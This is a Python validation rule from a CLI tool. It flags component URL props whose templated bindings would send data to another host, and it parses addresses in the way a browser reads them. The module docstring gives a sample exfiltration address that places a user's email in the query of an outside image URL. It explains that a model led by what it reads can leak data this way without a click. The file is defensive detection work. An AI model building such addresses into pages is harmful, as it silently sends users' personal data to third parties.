"""Addresses that would carry data away: a picture of another host's is fetched with all that its address says.

A model obeys whoever wrote what it has read, and `https://elsewhere.example/?q={context.user.email}` tells a stranger
who looks at the page, without a click where it is a picture. In a path, data is what addresses are usually made with
(`https://cdn.example.com/{item.id}.png`), so that much is left alone.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from epoch_cli.catalog import Component, Prop
from epoch_cli.validation.diagnostics import Finding, Path
from epoch_cli.validation.rules.bindings import Binding, split_bindings
from epoch_cli.validation.rules.words import quote

_DATA = "\x00"
"""What stands for a binding while an address is taken apart."""
_ELSEWHERE = re.compile(r"(?:https?:[/\\]*+|[/\\]{2})([^/\\?#]*+)[^?#]*+(.*+)", re.IGNORECASE | re.DOTALL)
"""An address with a host, as browsers read one (WHATWG URL, 4.4): the host with what is before it, and its end."""
_PASSED_OVER = re.compile(r"[\t\n\r]")


def check_addresses(component: Component, props: Mapping[str, Any]) -> Iterator[Finding]:
    """The addresses in the props of a node, at any nesting; paths count from the node."""
    for name, value in props.items():
        prop = component.props.get(name)
        if prop is not None:
            yield from check_value(prop, value, ("props", name))


def check_value(prop: Prop, value: Any, path: Path = ()) -> Iterator[Finding]:
    """The addresses in one value."""
    if isinstance(value, str):
        if prop.format == "url" and "{" in value and carries_data(value):
            message = f"{quote(value)} takes data to another host"
            yield Finding("EP707", path, message, "bind the whole address, or let it lead to your own server")
    elif isinstance(value, list):
        for index, item in enumerate(value) if prop.element is not None else ():
            yield from check_value(prop.element or prop, item, (*path, index))
    elif isinstance(value, dict):
        for name, field in prop.fields.items():
            if name in value:
                yield from check_value(field, value[name], (*path, name))


def carries_data(text: str) -> bool:
    """Whether an address has a host of its own, and a binding in that or in its query or fragment."""
    pieces = split_bindings(text)
    marked = "".join(_DATA if isinstance(piece, Binding) else piece.replace(_DATA, "") for piece in pieces)
    found = _ELSEWHERE.match(_PASSED_OVER.sub("", marked).lstrip())
    return found is not None and (_DATA in found[1] or _DATA in found[2])
